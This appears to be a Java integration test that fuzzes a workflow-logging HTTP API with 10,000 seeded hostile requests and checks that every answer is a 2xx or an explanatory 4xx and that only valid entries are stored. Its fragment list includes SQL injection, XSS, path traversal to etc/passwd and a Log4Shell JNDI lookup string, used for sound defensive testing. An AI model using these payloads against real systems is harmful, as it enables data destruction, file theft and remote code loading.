package org.phong.zenflow.logging.it;

import static org.junit.jupiter.api.Assertions.assertTrue;

import java.net.URLEncoder;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.sql.Connection;
import java.sql.PreparedStatement;
import java.sql.ResultSet;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Collections;
import java.util.List;
import java.util.Random;
import java.util.Set;
import java.util.UUID;
import java.util.concurrent.ConcurrentHashMap;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.concurrent.atomic.AtomicLongArray;
import org.junit.jupiter.api.Test;
import org.phong.zenflow.logging.testing.ExactlyOnce;

/**
 * Hostile input at scale, seeded ({@code -Dit.hostile.seed}, {@code -Dit.hostile.requests}, default
 * 10,000): every HTTP endpoint of the API gets generated path ids, query values and bodies built from
 * fragments that have broken parsers, SQL, HTML, terminals and number handling somewhere, interleaved
 * with valid entries, each carrying a unique message. Every answer must be a 2xx for a valid request or
 * a 4xx problem document whose {@code field} names the parameter or field at fault (404, 405, 406, 413, 415
 * and 429 say it by their status; a malformed path the runtime refuses before the application is counted, see
 * {@link #refusedByTheRuntime}); never a 5xx, never a hang. Afterwards the
 * server is ready and the database holds exactly the valid entries of the run's workflow, compared
 * entry by entry ({@link ExactlyOnce}). A failure prints the seed and the request, so it replays.
 * (The WebSocket handshakes and frames are {@link WebSocketBadInputIT}'s.)
 */
class HostileInputIT {
    private static final long SEED = Long.getLong("it.hostile.seed", 20261201L);
    private static final int REQUESTS = Integer.getInteger("it.hostile.requests", 10_000);
    private static final int THREADS = 8;
    private static final List<String> FRAGMENTS = List.of(
            "'; DROP TABLE logs; --", "<script>alert(1)</script>", "\u0000", "\t\n\r", "\u202e", "\ud83d\ude00", "%", "%zz",
            "..%2F..%2Fetc%2Fpasswd", "9223372036854775808", "-1", "1e9", "0x10", " 1", "NaN", "null", "[]", "{}", "\\N", "\\.",
            "a".repeat(3000), "DEBUG;ERROR", "${jndi:ldap://x.invalid/a}", "%s%n", "\u001b[31m", "\ufeff", "-0", "1.5", "true",
            "{\"workflowId\":1}", "[{\"runId\":[]}]", "\"", "\\", "?", "#", "&a=b", "/..", "\ud800");
    /** The query parameters, fields and headers a 400's problem document may name in {@code field}. */
    private static final Set<String> NAMES = Set.of("runId", "workflowId", "afterSeq", "beforeSeq", "limit", "minLevel", "nodeKey",
            "waitMs", "state", "outcome", "body", "entries", "ratePerSecond", "level", "message", "ts", "metadata", "seq", "wait",
            "cursor", "errorCode", "traceId", "hierarchy", "from", "to", "q", "format", "Content-Type", "path", "entry");
    /** Statuses whose meaning is the status itself (no such path, method or media type; too large; too many): a problem document is enough. */
    private static final Set<Integer> SELF_EXPLAINING = Set.of(404, 405, 406, 413, 415, 429);

    @Test
    void tenThousandHostileRequestsGetA4xxNamingTheParameterAndOnlyValidEntriesAreStored() throws Exception {
        ItEnvironment.awaitReady();
        UUID workflow = UUID.randomUUID();
        UUID run = UUID.randomUUID();
        Set<String> valid = ConcurrentHashMap.newKeySet();
        List<String> failures = Collections.synchronizedList(new ArrayList<>());
        AtomicLongArray byClass = new AtomicLongArray(6); // 1xx..5xx by first digit
        AtomicInteger sent = new AtomicInteger();
        AtomicInteger runtimeRefused = new AtomicInteger();
        ExecutorService pool = Executors.newFixedThreadPool(THREADS);
        long t0 = System.nanoTime();
        try {
            List<Future<?>> fs = new ArrayList<>();
            for (int t = 0; t < THREADS; t++) {
                int thread = t;
                fs.add(pool.submit(() -> {
                    Random rnd = new Random(SEED + thread);
                    for (int i = thread; i < REQUESTS; i += THREADS) {
                        Request r = generate(rnd, i, workflow, run);
                        try {
                            HttpResponse<String> res = ItEnvironment.send(ItCredentials.ALL_ROLES, r.method, r.path, r.contentType, r.body);
                            int s = res.statusCode();
                            byClass.incrementAndGet(Math.min(5, s / 100));
                            if (s >= 500) failures.add("seed " + SEED + " #" + i + " " + r + " -> " + s + " " + head(res.body()));
                            else if (r.validEntry != null && s != 202) {
                                failures.add("valid entry refused: #" + i + " " + r + " -> " + s + " " + head(res.body()));
                            } else if (s == 202 && r.message != null) {
                                // what the server accepted must be stored, exactly once (also a hostile field it tolerates)
                                if (res.body().contains("\"accepted\":1")) valid.add(r.message);
                            } else if (s >= 400) {
                                if (s == 400 && refusedByTheRuntime(r.path, res)) {
                                    runtimeRefused.incrementAndGet();
                                } else {
                                    String why = unexplained(res);
                                    if (why != null) failures.add("#" + i + " " + r + " -> " + why);
                                }
                            }
                        } catch (java.io.IOException e) {
                            // the JDK client refuses some generated URIs; the request never left, that is not the server's answer
                            if (!(e.getCause() instanceof IllegalArgumentException)) failures.add("#" + i + " " + r + " -> " + e);
                        } catch (IllegalArgumentException e) {
                            sent.decrementAndGet();
                        }
                        sent.incrementAndGet();
                    }
                    return null;
                }));
            }
            for (Future<?> f : fs) f.get(30, TimeUnit.MINUTES);
        } finally {
            pool.shutdownNow();
        }
        long ms = TimeUnit.NANOSECONDS.toMillis(System.nanoTime() - t0);
        assertTrue(failures.isEmpty(), failures.size() + " failures, e.g.:\n" + String.join("\n", failures.subList(0, Math.min(20, failures.size()))));
        ItEnvironment.awaitReady();
        ItEnvironment.awaitDrained(Duration.ofSeconds(180));
        ExactlyOnce check = new ExactlyOnce().mustArrive(valid);
        try (Connection c = ItEnvironment.openConnection();
             PreparedStatement ps = c.prepareStatement("SELECT message, count(*) FROM logs WHERE workflow_id = ? GROUP BY message")) {
            ps.setObject(1, workflow);
            try (ResultSet rs = ps.executeQuery()) {
                while (rs.next()) check.read(rs.getString(1), rs.getInt(2));
            }
        }
        check.verdict().assertExact("the workflow's rows are exactly the valid entries");
        System.out.printf("hostile input: seed %d, %d requests sent by %d threads in %d ms: %d 2xx, %d 4xx (%d of them malformed paths "
                        + "the runtime refused before the application), %d 5xx; %d valid entries stored exactly once; server ready afterwards%n",
                SEED, sent.get(), THREADS, ms, byClass.get(2), byClass.get(4), runtimeRefused.get(), byClass.get(5), valid.size());
    }

    /**
     * @return why a 4xx does not say what is wrong, or null: it must be the API's problem document, and a 400 or 422
     *         must name the parameter or field at fault in {@code field} (or, for a metadata path, a {@code metadata.} path)
     */
    /** Escapes that make a path segment malformed for the servlet container or JAX-RS: control characters, \\, /, #. */
    private static final java.util.regex.Pattern MALFORMED_PATH =
            java.util.regex.Pattern.compile("(?i)%(?:[01][0-9a-f]|7f|5c|2f|23)|/\\.\\.");

    /**
     * A 400 for a path the web container or the JAX-RS runtime cannot take apart (an escaped control character,
     * backslash, slash or '#' in a segment, or '..') never reaches the application, so no resource can name a
     * parameter for it; it must still be a 4xx without a stack trace. Such answers are counted, not judged.
     */
    private static boolean refusedByTheRuntime(String pathAndQuery, HttpResponse<String> res) {
        String path = pathAndQuery.contains("?") ? pathAndQuery.substring(0, pathAndQuery.indexOf('?')) : pathAndQuery;
        if (!MALFORMED_PATH.matcher(path).find()) return false;
        String body = res.body();
        // the runtime's page may name its exception class; it must not carry a stack trace
        return !body.contains("\tat ") && !body.contains("at org.") && !body.contains("at com.ibm") && !body.contains("at java.");
    }

    private static String unexplained(HttpResponse<String> res) {
        String notProblem = ProblemBody.problemWith(res);
        if (notProblem != null) return notProblem;
        if (SELF_EXPLAINING.contains(res.statusCode())) return null;
        jakarta.json.JsonObject p = ItEnvironment.parse(res.body());
        String field = p.isNull("field") ? null : p.getString("field");
        if (field == null) return res.statusCode() + " names no parameter: " + head(res.body());
        String root = field.contains(".") ? field.substring(0, field.indexOf('.')) : field;
        if (field.startsWith("zenflow.logging.") || NAMES.contains(root)) return null;
        return res.statusCode() + " names '" + field + "', not a parameter of the API: " + head(res.body());
    }

    /** One generated request; {@code validEntry} is the unique message of a valid entry, else null. */
    private record Request(String method, String path, String contentType, String body, String validEntry, String message) {
        Request(String method, String path, String contentType, String body, String validEntry) {
            this(method, path, contentType, body, validEntry, validEntry);
        }

        @Override
        public String toString() {
            return method + " " + head(path) + (body == null ? "" : " body " + head(body));
        }
    }

    private static String head(String s) {
        String h = s.length() > 160 ? s.substring(0, 160) + "..." : s;
        return h.replaceAll("\\p{Cntrl}", "?");
    }

    private static String hostile(Random rnd) {
        String v = FRAGMENTS.get(rnd.nextInt(FRAGMENTS.size()));
        return rnd.nextInt(3) == 0 ? v + FRAGMENTS.get(rnd.nextInt(FRAGMENTS.size())) : v;
    }

    private static String q(String v) {
        return URLEncoder.encode(v, StandardCharsets.UTF_8);
    }

    private static String json(String v) {
        StringBuilder b = new StringBuilder("\"");
        for (char c : v.toCharArray()) {
            if (c == '"' || c == '\\') b.append('\\').append(c);
            else if (c < 0x20) b.append(String.format("\\u%04x", (int) c));
            else b.append(c);
        }
        return b.append('"').toString();
    }

    private static Request generate(Random rnd, int i, UUID workflow, UUID run) {
        String h = hostile(rnd);
        String r = run.toString();
        switch (rnd.nextInt(12)) {
            case 0, 1, 2: { // a valid entry, hostile text in its message
                String m = "hostile-" + i + "-" + h;
                String body = "[{\"workflowId\":\"" + workflow + "\",\"runId\":\"" + r + "\",\"nodeKey\":\"n\",\"level\":\"INFO\",\"message\":"
                        + json(m) + "}]";
                // the server turns NUL and unpaired surrogates into U+FFFD and truncates long messages: compare what it stores
                boolean exact = m.length() < 30_000 && m.chars().noneMatch(c -> c == 0 || Character.isSurrogate((char) c));
                return exact ? new Request("POST", "/api/v1/logs", "application/json", body, m)
                        : new Request("POST", "/api/v1/logs", "application/json", body.replace(json(m), json("hostile-" + i)), "hostile-" + i);
            }
            case 3: { // an entry with one hostile field (a duplicate key: the last one counts); accepted ones are tracked too
                String[] fields = {"workflowId", "runId", "level", "ts", "seq", "metadata", "errorCode", "traceId"};
                String f = fields[rnd.nextInt(fields.length)];
                String m = "field-" + i;
                String body = "[{\"workflowId\":\"" + workflow + "\",\"runId\":\"" + r + "\",\"nodeKey\":\"n\",\"level\":\"INFO\",\"message\":\""
                        + m + "\"," + json(f) + ":" + (rnd.nextBoolean() ? json(h) : h) + "}]";
                return new Request("POST", "/api/v1/logs", "application/json", body, null, m);
            }
            case 4:
                return new Request("POST", "/api/v1/logs", rnd.nextBoolean() ? "application/json" : "text/plain", h, null);
            case 5:
                return new Request("POST", "/api/v1/runs/" + q(h) + "/start", "application/json", "{\"workflowId\":\"" + workflow + "\"}", null);
            case 6:
                return new Request("POST", "/api/v1/runs/" + UUID.randomUUID() + (rnd.nextBoolean() ? "/start" : "/end"), "application/json",
                        rnd.nextBoolean() ? h : "{\"workflowId\":" + json(h) + ",\"outcome\":" + json(h) + "}", null);
            case 7: {
                String[] params = {"afterSeq", "limit", "minLevel", "waitMs"};
                String p = params[rnd.nextInt(params.length)];
                return new Request("GET", "/api/v1/runs/" + r + "/logs?" + p + "=" + q(h), null, null, null);
            }
            case 8:
                return new Request("GET", "/api/v1/runs/" + q(h) + "/logs", null, null, null);
            case 9:
                return new Request("GET", "/api/v1/runs?state=" + q(h), null, null, null);
            case 10:
                return new Request("POST", "/api/v1/admin/stream/load", "application/json",
                        rnd.nextBoolean() ? h : "{\"runId\":" + json(h) + ",\"entries\":" + h + "}", null);
            default:
                return new Request("POST", "/api/v1/admin/stream/runs/" + q(h) + "/disconnect", "application/json", "", null);
        }
    }
}
